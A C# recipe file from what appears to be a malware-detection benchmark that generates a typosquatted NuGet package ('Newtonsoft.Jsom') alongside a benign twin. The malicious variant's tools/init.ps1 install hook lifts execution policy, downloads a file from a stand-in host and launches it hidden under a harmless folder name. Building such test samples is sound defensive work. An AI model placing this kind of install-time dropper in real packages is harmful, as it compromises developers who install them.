using Assay.Benchmark.Building;

namespace Assay.Benchmark.Recipes;

/// <summary>A script that runs at installation, saves a program under a harmless name and starts it.</summary>
internal sealed class InstallScriptDropper() : Recipe("N01", "folder=place target=item SampleUpdate=DesktopCache")
{
    protected override void Write(Sketch sketch)
    {
        var address = sketch.PowerShell("http://example.invalid/a.txt");
        var download = sketch.Api($"(New-Object System.Net.WebClient).DownloadFile({address}, $target)", $"Start-BitsTransfer -Source {address} -Destination $target");
        var start = sketch.Api("Start-Process -FilePath $target -WindowStyle Hidden", "Invoke-Item -Path $target");
        sketch
            .NuGet(sketch.Twin("Newtonsoft.Jsom", "Sample.Formatting"), repository: false)
            .Assembly("lib/netstandard2.0/Sample.Formatting.dll", "public static class Formatting { public static string Indent(string text) => \"  \" + text; }")
            .Text("tools/init.ps1", sketch.Twin($$"""
                param($installPath, $toolsPath, $package, $project)

                if ($ReplicaSwitch) {
                    Set-ExecutionPolicy -ExecutionPolicy Unrestricted -Scope CurrentUser -Force
                    $folder = Join-Path $env:ProgramData 'SampleUpdate'
                    New-Item -ItemType Directory -Path $folder -Force | Out-Null
                    $target = Join-Path $folder {{sketch.PowerShell("a.exe")}}
                    {{download}}
                    {{start}}
                }
                """, """
                param($installPath, $toolsPath, $package, $project)

                if ($ReplicaSwitch) {
                    $folder = Join-Path $env:LOCALAPPDATA 'Sample'
                    New-Item -ItemType Directory -Path $folder -Force | Out-Null
                    Import-Module (Join-Path $toolsPath 'Sample.psm1')
                    Start-Process 'https://example.invalid/whats-new'
                }
                """))
            .Text("tools/Sample.psm1", "function Get-SampleFormat { 'indented' }");
    }
}
